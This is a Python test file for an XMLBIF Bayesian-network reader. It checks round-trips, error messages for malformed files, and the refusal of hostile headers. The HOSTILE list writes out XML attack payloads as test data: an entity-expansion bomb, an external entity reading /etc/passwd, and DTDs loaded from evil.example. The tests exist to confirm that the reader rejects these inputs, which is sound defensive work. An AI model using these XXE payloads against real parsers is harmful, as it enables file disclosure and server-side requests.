"""XMLBIF files, honest and hostile."""

from __future__ import annotations

import xml.etree.ElementTree as ElementTree

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from novum.core.errors import FileFormatError, InputError
from novum.graphical.formats import xmlbif
from novum.graphical.models.bayesian_network import BayesianNetwork
from tests.strategies.network_files import damaged, networks, refuses_or_reads

RAIN = "<VARIABLE TYPE='nature'><NAME>rain</NAME><OUTCOME>yes</OUTCOME><OUTCOME>no</OUTCOME>"
WET = "<VARIABLE><NAME> wet </NAME><OUTCOME>a &lt; b</OUTCOME><OUTCOME>c</OUTCOME>"
VARIABLES = f"{RAIN}<PROPERTY>position = (1, 2)</PROPERTY></VARIABLE>{WET}</VARIABLE>"
FOR_RAIN = "<DEFINITION><FOR>rain</FOR><TABLE>0.2 <!-- half --> 8e-1</TABLE></DEFINITION>"
FOR_WET = (
    "<DEFINITION><FOR>wet</FOR><GIVEN>rain</GIVEN><TABLE>0.9 0.1\n0.2 0.8</TABLE></DEFINITION>"
)


def whole(inner: str, head: str = "") -> str:
    return f"{head}<BIF VERSION='0.3'><NETWORK><NAME>x</NAME>{inner}</NETWORK></BIF>"


def read(text: str) -> BayesianNetwork:
    return BayesianNetwork(xmlbif.read(text.encode(), "file.xml"))


def test_every_construct_is_read() -> None:
    network = read(whole(VARIABLES + FOR_WET + FOR_RAIN))
    assert network.names == ("rain", "wet")
    assert network["wet"].variable.states == ("a < b", "c")
    assert network["rain"].table.tolist() == [0.2, 0.8]
    assert network["wet"].table.tolist() == [[0.9, 0.1], [0.2, 0.8]]


@given(networks())
def test_a_network_reads_back_to_the_bit(network: BayesianNetwork) -> None:
    text = xmlbif.written(network, "x.xml")
    assert read(text) == network
    # Another XML reader finds the same names.
    root = ElementTree.fromstring(text)
    assert tuple(node.text for node in root.iterfind("NETWORK/VARIABLE/NAME")) == network.names


@pytest.mark.parametrize("name", ["a\x00", "a\x1b[2J", "\ufffe", " a", "a\n"])
def test_what_xml_cannot_hold_is_refused(name: str) -> None:
    network = BayesianNetwork().add(name, table=[0.5, 0.5])
    with pytest.raises(InputError, match=r"Rename it, or write \.bif"):
        xmlbif.written(network, "x.xml")


HOSTILE = [
    ('<!DOCTYPE BIF [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>', "declares an entity"),
    ('<!DOCTYPE BIF [<!ENTITY a SYSTEM "file:///etc/passwd">]>', "declares an entity"),
    ('<!DOCTYPE BIF [<!ENTITY % a SYSTEM "http://evil.example/x"> %a;]>', "declares an entity"),
    ('<!DOCTYPE BIF SYSTEM "http://evil.example/x.dtd">', "refers to a document type elsewhere"),
    ('<!DOCTYPE BIF PUBLIC "a" "b" []>', "refers to a document type elsewhere"),
    ('<?xml version="1.0" encoding="utf-7"?>', "encoding"),
    ('<?xml version="1.0" encoding="shift-jis"?>', "encoding"),
    ('<?xml version="1.0" encoding="no such"?>', "not well-formed"),
]


@pytest.mark.parametrize(("head", "words"), HOSTILE)
def test_hostile_heads_are_refused(head: str, words: str) -> None:
    with pytest.raises(FileFormatError, match=words):
        read(whole(VARIABLES + FOR_WET + FOR_RAIN, head))


def test_the_element_declarations_that_programs_write_are_accepted() -> None:
    head = '<?xml version="1.0"?><!DOCTYPE BIF [<!ELEMENT BIF (NETWORK)*>]>'
    assert len(read(whole(VARIABLES + FOR_WET + FOR_RAIN, head))) == 2


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("<BIF>", "this is not well-formed XML: no element found"),
        ("<HTML></HTML>", "expected the element BIF, found 'HTML'"),
        ("<BIF><X/></BIF>", "expected the element NETWORK, found 'X'"),
        ("<BIF>" * 1_000, "expected the element NETWORK"),
        (whole("<A>" * 100_000), "nested more than 20 deep"),
        (whole(""), "there is no variable in it"),
        (whole(VARIABLES + FOR_RAIN), "variable 'wet' has no DEFINITION"),
        (whole(VARIABLES + VARIABLES), "variable 'rain' occurs twice"),
        (whole(VARIABLES + FOR_RAIN + FOR_RAIN), "the definition of 'rain' occurs twice"),
        (whole(VARIABLES + FOR_RAIN.replace("rain", "rian")), "did you mean 'rain'?"),
        (whole(VARIABLES + FOR_WET.replace("rain", "rian")), "did you mean 'rain'?"),
        (whole(VARIABLES + FOR_WET.replace("rain", "wet")), "stands twice in the definition"),
        (whole(VARIABLES + FOR_WET.replace("0.8", "0.8 1")), "5 numbers for 'wet', 4 are needed"),
        (whole(VARIABLES + FOR_WET.replace("0.8", "{0.8}")), "found '{0.8}'"),
        (whole(VARIABLES + FOR_WET.replace("0.8", "1_0")), "found '1_0'"),
        (whole(VARIABLES.replace("nature", "utility")), "type 'utility' is not read"),
        (whole(VARIABLES.replace(">no<", ">yes<")), "outcome yes of 'rain' occurs twice"),
        (whole(VARIABLES.replace(">no<", "><")), "an outcome of 'rain' is empty"),
        (whole("<VARIABLE><NAME>x</NAME></VARIABLE>"), "variable 'x' has no OUTCOME"),
        (whole("<VARIABLE></VARIABLE>"), "VARIABLE needs one NAME, found 0"),
        (whole(VARIABLES + "<DEFINITION/>"), "DEFINITION needs one FOR, found 0"),
    ],
)
def test_malformed_files_name_the_reason(text: str, words: str) -> None:
    with pytest.raises(FileFormatError) as caught:
        read(text)
    assert words in str(caught.value)


def test_the_line_is_known() -> None:
    text = whole(VARIABLES + FOR_RAIN + "\n\n  " + FOR_WET.replace("0.8", "x"))
    with pytest.raises(FileFormatError) as caught:
        read(text)
    assert caught.value.line == 3


VALID = whole(VARIABLES + FOR_WET + FOR_RAIN)


@settings(max_examples=200)
@given(damaged(VALID))
def test_damaged_files_are_refused_in_words(data: bytes) -> None:
    refuses_or_reads(xmlbif, data)


@given(st.binary(max_size=200))
def test_random_bytes_are_refused_in_words(data: bytes) -> None:
    refuses_or_reads(xmlbif, data)


def test_wrong_numbers_and_absent_definitions_name_their_line() -> None:
    wrong = whole(f"{VARIABLES}\n{FOR_RAIN}\n\n{FOR_WET.replace('0.8', '0.9')}")
    with pytest.raises(FileFormatError, match=r"row rain = no sum to 1.1, not to 1") as caught:
        read(wrong)
    assert caught.value.line == 4
    absent = whole(VARIABLES.replace("<VARIABLE><NAME> wet", "\n\n<VARIABLE><NAME> wet") + FOR_RAIN)
    with pytest.raises(FileFormatError, match="variable 'wet' has no DEFINITION") as caught:
        read(absent)
    assert caught.value.line == 3


def test_nothing_is_declared_in_front() -> None:
    # pyAgrum's reader takes declarations of elements for an error.
    assert "<!" not in xmlbif.written(read(whole(VARIABLES + FOR_RAIN + FOR_WET)), "x.xml")
